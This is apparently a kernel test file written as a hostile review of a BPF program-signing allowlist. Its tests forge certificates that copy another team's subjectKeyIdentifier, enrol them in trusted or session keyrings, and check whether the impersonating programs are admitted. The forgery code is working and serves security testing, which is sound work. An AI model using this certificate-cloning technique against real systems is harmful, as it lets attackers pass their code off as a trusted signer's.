// SPDX-License-Identifier: GPL-2.0
/*
 * Hostile review of issue 40 (the key that verified a program, "key allow").
 *
 * Attacker: team B, whose key (signing-ec, in .builtin_trusted_keys) a site
 * shares a keyring with team A (signing), and root on the host (uid 0 may
 * add to .secondary_trusted_keys any certificate a builtin or secondary key
 * signed; no CA bit is asked for).  The site trusts the builtin and secondary
 * keyrings (the audit's default) and admits only team A: "key allow A".
 *
 * Team B mints, with its own key, a certificate for a fresh key that carries
 * team A's subjectKeyIdentifier, enrols it in .secondary_trusted_keys and
 * signs with the fresh key against keyring 1.  Keys directly in the secondary
 * keyring are searched before the builtin keyring it links, so the trust
 * check finds the clone, verifies with it and the kernel records A's id:
 * fdinfo, the audit record and aux->sig_key name team A, and keyring-allowlist
 * admits team B's program as team A's.
 *
 * These tests assert the property the issue promises and FAIL on the code
 * of 0063-0067: explicit, in no boot of scripts/run-tests.sh.  Run them with
 *   BPFSIGN_QUIET=1 qemu/run-guest.sh attack_sig_key_secondary_skid_clone \
 *	attack_key_allow_secondary_skid_clone attack_key_allow_user_keyring_skid_forgery
 * The attack_* tests marked "Held" pass: they pin what resisted the review.
 */
#include <fcntl.h>
#include <stdarg.h>
#include <stdlib.h>
#include <unistd.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <keyutils.h>
#include <openssl/cms.h>
#include <openssl/ec.h>
#include <openssl/evp.h>
#include <openssl/pem.h>
#include <openssl/x509v3.h>
#include <bpf/bpf.h>

#include "fixture.h"
#include "runner.h"
#include "util.h"
#include "sign.h"
#include "signed.h"

#define CLI		"/tests/bpfsign-policy"
#define CLONE_POLICY	"/tmp/attack-clone.policy"
#define CLONE		"attack-clone-a"

static char out[65536];

static int cli(const char *arg, ...)
{
	const char *argv[16] = { CLI };
	int argc = 1;
	va_list ap;

	va_start(ap, arg);
	for (; arg && argc < 15; arg = va_arg(ap, const char *))
		argv[argc++] = arg;
	va_end(ap);
	argv[argc] = NULL;
	return run_capture(argv, out, sizeof(out));
}

static const char *fdinfo(int fd, const char *key, char *val, size_t len)
{
	char path[64], line[256];
	size_t klen = strlen(key);
	FILE *f;

	val[0] = 0;
	snprintf(path, sizeof(path), "/proc/self/fdinfo/%d", fd);
	f = fopen(path, "r");
	if (!f)
		return val;
	while (fgets(line, sizeof(line), f)) {
		if (strncmp(line, key, klen) || line[klen] != ':' || line[klen + 1] != '\t')
			continue;
		line[strcspn(line, "\n")] = 0;
		snprintf(val, len, "%s", line + klen + 2);
		break;
	}
	fclose(f);
	return val;
}

static X509 *read_cert(const char *name)
{
	unsigned char *der = NULL;
	const unsigned char *p;
	int len = cert_der(name, &der);
	X509 *x;

	if (len < 0)
		return NULL;
	p = der;
	x = d2i_X509(NULL, &p, len);
	OPENSSL_free(der);
	return x;
}

static void skid_hex(X509 *x, char *hex)
{
	const ASN1_OCTET_STRING *s = X509_get0_subject_key_id(x);
	int i, n = 0;

	hex[0] = 0;
	for (i = 0; s && i < ASN1_STRING_length(s); i++)
		n += sprintf(hex + n, "%02x", ASN1_STRING_get0_data(s)[i]);
}

/* The serial of .secondary_trusted_keys in /proc/keys, or -1 */
static long secondary_keyring(void)
{
	char line[512];
	unsigned long serial;
	long found = -1;
	FILE *f = fopen("/proc/keys", "r");

	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f))
		if (strstr(line, " .secondary_trusted_keys") && sscanf(line, "%lx", &serial) == 1) {
			found = serial;
			break;
		}
	fclose(f);
	return found;
}

/*
 * Team B's certificate for a fresh P-256 key, issued and signed by
 * /tests/keys/signing-ec (team B) or, with self, self-signed, with the subjectKeyIdentifier of
 * /tests/keys/signing (team A): /tests/keys/CLONE.{crt,key}.
 */
static bool mint_cert(bool self, const ASN1_OCTET_STRING *want_skid);

static bool mint_clone(bool self)
{
	return mint_cert(self, NULL);
}

/* As mint_clone(), with skid want_skid when given instead of team A's */
static bool mint_cert(bool self, const ASN1_OCTET_STRING *want_skid)
{
	X509 *a = read_cert("signing"), *b = read_cert("signing-ec"), *x = X509_new();
	EVP_PKEY *bkey = NULL, *key = EVP_EC_gen("P-256");
	X509 *issuer;
	X509_EXTENSION *ext;
	X509V3_CTX ctx;
	bool ok = false;
	FILE *f;

	f = fopen("/tests/keys/signing-ec.key", "r");
	bkey = f ? PEM_read_PrivateKey(f, NULL, NULL, NULL) : NULL;
	if (f)
		fclose(f);
	if (!a || !b || !x || !key || !bkey)
		goto out;
	X509_set_version(x, 2);
	ASN1_INTEGER_set(X509_get_serialNumber(x), 40400);
	X509_NAME_add_entry_by_txt(X509_get_subject_name(x), "CN", MBSTRING_ASC,
				   (const unsigned char *)"team B posing as team A", -1, -1, 0);
	issuer = self ? x : b;
	X509_set_issuer_name(x, X509_get_subject_name(issuer));
	X509_gmtime_adj(X509_getm_notBefore(x), -3600);
	X509_gmtime_adj(X509_getm_notAfter(x), 3600L * 24 * 365);
	X509_set_pubkey(x, key);
	/* team A's skid, verbatim */
	ext = X509_EXTENSION_create_by_NID(NULL, NID_subject_key_identifier, 0,
		want_skid ? (ASN1_OCTET_STRING *)want_skid :
		X509_EXTENSION_get_data(X509_get_ext(a, X509_get_ext_by_NID(a, NID_subject_key_identifier, -1))));
	if (!ext || !X509_add_ext(x, ext, -1))
		goto out;
	X509_EXTENSION_free(ext);
	/* the secondary keyring finds the issuer by this: team B's key */
	X509V3_set_ctx(&ctx, issuer, x, NULL, NULL, 0);
	ext = X509V3_EXT_conf_nid(NULL, &ctx, NID_authority_key_identifier, "keyid:always");
	if (!ext || !X509_add_ext(x, ext, -1))
		goto out;
	X509_EXTENSION_free(ext);
	ext = X509V3_EXT_conf_nid(NULL, &ctx, NID_key_usage, "critical,digitalSignature");
	if (!ext || !X509_add_ext(x, ext, -1))
		goto out;
	X509_EXTENSION_free(ext);
	if (!X509_sign(x, self ? key : bkey, EVP_sha256()))
		goto out;
	f = fopen("/tests/keys/" CLONE ".crt", "w");
	ok = f && PEM_write_X509(f, x);
	if (f)
		fclose(f);
	f = fopen("/tests/keys/" CLONE ".key", "w");
	ok = ok && f && PEM_write_PrivateKey(f, key, NULL, NULL, 0, NULL, NULL);
	if (f)
		fclose(f);
out:
	X509_free(a);
	X509_free(b);
	X509_free(x);
	EVP_PKEY_free(key);
	EVP_PKEY_free(bkey);
	return ok;
}

/* The clone, enrolled in .secondary_trusted_keys: its serial, or -1 */
static key_serial_t enrol_clone(long *secondary)
{
	unsigned char *der = NULL;
	key_serial_t k;
	int len;

	*secondary = secondary_keyring();
	if (!ASSERT_GE(*secondary, 1, ".secondary_trusted_keys in /proc/keys"))
		return -1;
	if (!ASSERT_TRUE(mint_clone(false), "team B mints a cert with team A's skid"))
		return -1;
	len = cert_der(CLONE, &der);
	k = add_key("asymmetric", "bpfsign-attack-clone", der, len, *secondary);
	OPENSSL_free(der);
	if (!ASSERT_GE(k, 1, "root adds it to .secondary_trusted_keys (signed by a builtin key)"))
		return -1;
	return k;
}

/* A load signed by key NAME against keyring: fd, or -errno */
static int signed_load(const char *name, int keyring)
{
	struct load l;
	int fd;

	if (!make_load(&l, 1, name, keyring))
		return -EINVAL;
	fd = sys_prog_load(&l);
	if (fd < 0)
		fd = -errno;
	free_load(&l);
	return fd;
}

/*
 * The recorded key id names a key that is not team A's: the program is team
 * B's, signed by the clone, yet fdinfo says sig_key = team A's skid.
 */
TEST_EXPLICIT(attack_sig_key_secondary_skid_clone)
{
	char a_skid[160], v[160];
	long secondary;
	key_serial_t clone;
	X509 *a = read_cert("signing");
	int fd;

	if (!ASSERT_TRUE(a, "signing.crt"))
		return;
	skid_hex(a, a_skid);
	X509_free(a);
	clone = enrol_clone(&secondary);
	if (clone < 0)
		return;
	fd = signed_load(CLONE, SECONDARY);
	if (fd >= 0) {
		char kr[32], ser[32];

		fdinfo(fd, "sig_keyring", kr, sizeof(kr));
		fdinfo(fd, "sig_key_serial", ser, sizeof(ser));
		fdinfo(fd, "sig_key", v, sizeof(v));
		printf("  clone load admitted: sig_keyring=%s sig_key=%s sig_key_serial=%s (clone %d)\n",
		       kr, v, ser, clone);
		/* the property: an id that names team A is team A's key */
		ASSERT_TRUE(strcmp(v, a_skid),
			    "fdinfo sig_key of team B's program must not be team A's key id");
		close(fd);
	}
	keyctl_unlink(clone, secondary);
}

/*
 * "keyring allow builtin / keyring allow secondary / key allow A": team B's
 * own key is refused (the key rule is live), its clone of A's id must be too.
 */
TEST_EXPLICIT(attack_key_allow_secondary_skid_clone)
{
	char a_skid[160], text[512];
	struct stat st;
	long secondary;
	key_serial_t clone;
	X509 *a = read_cert("signing");
	int fd;

	if (!ASSERT_TRUE(a, "signing.crt"))
		return;
	skid_hex(a, a_skid);
	X509_free(a);
	if (!stat("/sys/fs/bpf/bpfsign/keyring-allowlist", &st))
		cli("unload", "keyring-allowlist", NULL);
	clone = enrol_clone(&secondary);
	if (clone < 0)
		return;
	snprintf(text, sizeof(text),
		 "keyring allow builtin\nkeyring allow secondary\nkey allow %s\n", a_skid);
	fd = open(CLONE_POLICY, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	if (!ASSERT_GE(fd, 0, "write the policy") || write(fd, text, strlen(text)) < 0)
		goto out;
	close(fd);
	if (!ASSERT_EQ(cli("load", "--policy", CLONE_POLICY, "keyring-allowlist", NULL), 0,
		       "load keyring-allowlist: builtin, secondary, key allow A"))
		goto out;

	/* control: team A passes, team B's own key is refused by the key rule */
	fd = signed_load("signing", BUILTIN);
	ASSERT_OK(fd, "team A's program, keyring builtin");
	if (fd >= 0)
		close(fd);
	fd = signed_load("signing-ec", BUILTIN);
	ASSERT_ERR(fd, EPERM, "team B's own key: refused by key allow");
	if (fd >= 0)
		close(fd);

	/* the attack: team B's clone of A's id */
	fd = signed_load(CLONE, SECONDARY);
	ASSERT_TRUE(fd < 0, "team B's program signed by a clone of A's skid must be refused");
	if (fd >= 0) {
		if (cli("audit", "--policy", CLONE_POLICY, NULL) >= 0)
			printf("  audit of the host: %.*s\n", 1500, out);
		close(fd);
	}
	cli("unload", "keyring-allowlist", NULL);
out:
	keyctl_unlink(clone, secondary);
}

/*
 * Attacker: any CAP_BPF caller (or BPF-token holder) with its own session
 * keyring, no root, no trusted key.  A site that allows caller keyrings
 * ("keyring allow user", bpf_sig_enforce off) and restricts by "key allow A"
 * admits a self-signed certificate that merely copies A's skid: the key rule
 * compares ids that any certificate may claim.
 */
TEST_EXPLICIT(attack_key_allow_user_keyring_skid_forgery)
{
	char a_skid[160], text[512];
	unsigned char *der = NULL;
	struct stat st;
	key_serial_t forged;
	X509 *a = read_cert("signing");
	int fd, len;

	if (!ASSERT_TRUE(a, "signing.crt"))
		return;
	skid_hex(a, a_skid);
	X509_free(a);
	if (!stat("/sys/fs/bpf/bpfsign/keyring-allowlist", &st))
		cli("unload", "keyring-allowlist", NULL);
	if (!ASSERT_TRUE(mint_clone(true), "a self-signed cert with A's skid"))
		return;
	len = cert_der(CLONE, &der);
	forged = add_key("asymmetric", "bpfsign-attack-forged", der, len, KEY_SPEC_SESSION_KEYRING);
	OPENSSL_free(der);
	if (!ASSERT_GE(forged, 1, "enrol it in the caller's session keyring"))
		return;
	snprintf(text, sizeof(text),
		 "keyring allow builtin\nkeyring allow user\nkey allow %s\n", a_skid);
	fd = open(CLONE_POLICY, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	if (!ASSERT_GE(fd, 0, "write the policy") || write(fd, text, strlen(text)) < 0)
		goto out;
	close(fd);
	if (!ASSERT_EQ(cli("load", "--policy", CLONE_POLICY, "keyring-allowlist", NULL), 0,
		       "load keyring-allowlist: builtin, user, key allow A"))
		goto out;
	/* control: the key rule is live */
	fd = signed_load("signing-ec", BUILTIN);
	ASSERT_ERR(fd, EPERM, "team B's builtin key: refused by key allow");
	if (fd >= 0)
		close(fd);
	fd = signed_load(CLONE, KEY_SPEC_SESSION_KEYRING);
	ASSERT_TRUE(fd < 0, "a forged cert with A's skid in the caller's keyring must be refused");
	if (fd >= 0)
		close(fd);
	cli("unload", "keyring-allowlist", NULL);
out:
	keyctl_unlink(forged, KEY_SPEC_SESSION_KEYRING);
}

/*
 * Held (passes): the kernel keeps no prefix of a skid longer than 64 bytes.
 * A policy allows a 64-byte id X; a caller keyring key whose skid is X
 * followed by one more byte must not be recorded as X (truncation) and so
 * must be refused by "key allow X", even under "keyring allow user".
 */
TEST_EXPLICIT(attack_key_allow_long_skid_prefix)
{
	unsigned char inner[65], *der = NULL, *p;
	char x_hex[160], v[160], text[512];
	ASN1_OCTET_STRING *os = ASN1_OCTET_STRING_new(), *wrapped = NULL;
	struct stat st;
	key_serial_t forged = -1;
	int fd, len, i;

	for (i = 0; i < 65; i++)
		inner[i] = 0xa0 + (i % 16);
	for (i = 0; i < 64; i++)
		sprintf(x_hex + 2 * i, "%02x", inner[i]);
	/* the extension's value is the DER of an OCTET STRING holding the id */
	if (!ASSERT_TRUE(os && ASN1_OCTET_STRING_set(os, inner, 65), "a 65-byte skid"))
		goto out;
	len = i2d_ASN1_OCTET_STRING(os, NULL);
	der = OPENSSL_malloc(len);
	p = der;
	i2d_ASN1_OCTET_STRING(os, &p);
	wrapped = ASN1_OCTET_STRING_new();
	ASN1_OCTET_STRING_set(wrapped, der, len);
	OPENSSL_free(der);
	der = NULL;
	if (!stat("/sys/fs/bpf/bpfsign/keyring-allowlist", &st))
		cli("unload", "keyring-allowlist", NULL);
	if (!ASSERT_TRUE(mint_cert(true, wrapped), "a self-signed cert with a 65-byte skid"))
		goto out;
	len = cert_der(CLONE, &der);
	forged = add_key("asymmetric", "bpfsign-attack-long", der, len, KEY_SPEC_SESSION_KEYRING);
	OPENSSL_free(der);
	if (!ASSERT_GE(forged, 1, "enrol it in the caller's session keyring"))
		goto out;
	snprintf(text, sizeof(text), "keyring allow builtin\nkeyring allow user\nkey allow %s\n", x_hex);
	fd = open(CLONE_POLICY, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	if (!ASSERT_GE(fd, 0, "write the policy") || write(fd, text, strlen(text)) < 0)
		goto out;
	close(fd);

	/* before the policy: what the kernel records for it */
	fd = signed_load(CLONE, KEY_SPEC_SESSION_KEYRING);
	if (ASSERT_OK(fd, "the long-skid key verifies against the caller keyring")) {
		ASSERT_STREQ(fdinfo(fd, "sig_key", v, sizeof(v)), "none", "no prefix of a long skid recorded");
		close(fd);
	}
	if (!ASSERT_EQ(cli("load", "--policy", CLONE_POLICY, "keyring-allowlist", NULL), 0,
		       "load keyring-allowlist: user, key allow X (64 bytes)"))
		goto out;
	fd = signed_load(CLONE, KEY_SPEC_SESSION_KEYRING);
	ASSERT_ERR(fd, EPERM, "skid X||byte is not X");
	if (fd >= 0)
		close(fd);
	cli("unload", "keyring-allowlist", NULL);
out:
	if (forged > 0)
		keyctl_unlink(forged, KEY_SPEC_SESSION_KEYRING);
	ASN1_OCTET_STRING_free(os);
	ASN1_OCTET_STRING_free(wrapped);
}

/*
 * Held (passes): a signature with two SignerInfos, team B's first and team
 * A's second, both keys of the builtin keyring.  Both verify; the kernel
 * records the first accepted one, B, and "key allow A" therefore refuses
 * the program (fail closed): a second signer cannot lend its id.
 */
static int two_signers(const unsigned char *data, size_t len, unsigned char **sig)
{
	unsigned int flags = CMS_BINARY | CMS_DETACHED | CMS_NOCERTS | CMS_PARTIAL |
			     CMS_NOSMIMECAP | CMS_USE_KEYID | CMS_NOATTR;
	const char *names[] = { "signing-ec", "signing" };
	CMS_ContentInfo *cms = CMS_sign(NULL, NULL, NULL, NULL, flags);
	BIO *in = BIO_new_mem_buf(data, len);
	int i, ret = -1;

	for (i = 0; cms && i < 2; i++) {
		char path[128];
		EVP_PKEY *key;
		X509 *cert = read_cert(names[i]);
		FILE *f;

		snprintf(path, sizeof(path), "/tests/keys/%s.key", names[i]);
		f = fopen(path, "r");
		key = f ? PEM_read_PrivateKey(f, NULL, NULL, NULL) : NULL;
		if (f)
			fclose(f);
		if (!cert || !key || !CMS_add1_signer(cms, cert, key, EVP_sha256(), flags))
			i = 3;
		X509_free(cert);
		EVP_PKEY_free(key);
	}
	if (cms && in && i == 2 && CMS_final(cms, in, NULL, flags) == 1) {
		*sig = NULL;
		ret = i2d_CMS_ContentInfo(cms, sig);
	}
	CMS_ContentInfo_free(cms);
	BIO_free(in);
	return ret;
}

TEST_EXPLICIT(attack_sig_key_two_signer_infos)
{
	unsigned char payload[sizeof(((struct load *)0)->insns) + META_SZ];
	char a_skid[160], b_skid[160], v[160], text[512];
	X509 *a = read_cert("signing"), *b = read_cert("signing-ec");
	struct stat st;
	struct load l;
	size_t len;
	int fd, i;

	if (!ASSERT_TRUE(a && b, "the two certificates"))
		goto out_certs;
	skid_hex(a, a_skid);
	skid_hex(b, b_skid);
	if (!make_load(&l, 1, "signing", BUILTIN))
		goto out_certs;
	len = l.cnt * sizeof(l.insns[0]);
	memcpy(payload, l.insns, len);
	for (i = 0; i < META_SZ; i++)
		payload[len++] = fixture_meta(0, i);
	free(l.sig);
	l.sig = NULL;
	l.sig_len = two_signers(payload, len, &l.sig);
	if (!ASSERT_GE(l.sig_len, 1, "a CMS with two SignerInfos, B then A"))
		goto out;
	fd = sys_prog_load(&l);
	if (ASSERT_OK(fd, "both signers verify")) {
		ASSERT_STREQ(fdinfo(fd, "sig_key", v, sizeof(v)), b_skid,
			     "the first accepted SignerInfo's key (B) is recorded");
		close(fd);
	}
	if (!stat("/sys/fs/bpf/bpfsign/keyring-allowlist", &st))
		cli("unload", "keyring-allowlist", NULL);
	snprintf(text, sizeof(text), "keyring allow builtin\nkey allow %s\n", a_skid);
	fd = open(CLONE_POLICY, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	if (!ASSERT_GE(fd, 0, "write the policy") || write(fd, text, strlen(text)) < 0)
		goto out;
	close(fd);
	if (!ASSERT_EQ(cli("load", "--policy", CLONE_POLICY, "keyring-allowlist", NULL), 0,
		       "load keyring-allowlist: builtin, key allow A"))
		goto out;
	fd = sys_prog_load(&l);
	ASSERT_ERR(fd < 0 ? -1 : fd, EPERM, "A's second SignerInfo does not lend A's id");
	if (fd >= 0)
		close(fd);
	cli("unload", "keyring-allowlist", NULL);
out:
	free_load(&l);
out_certs:
	X509_free(a);
	X509_free(b);
}
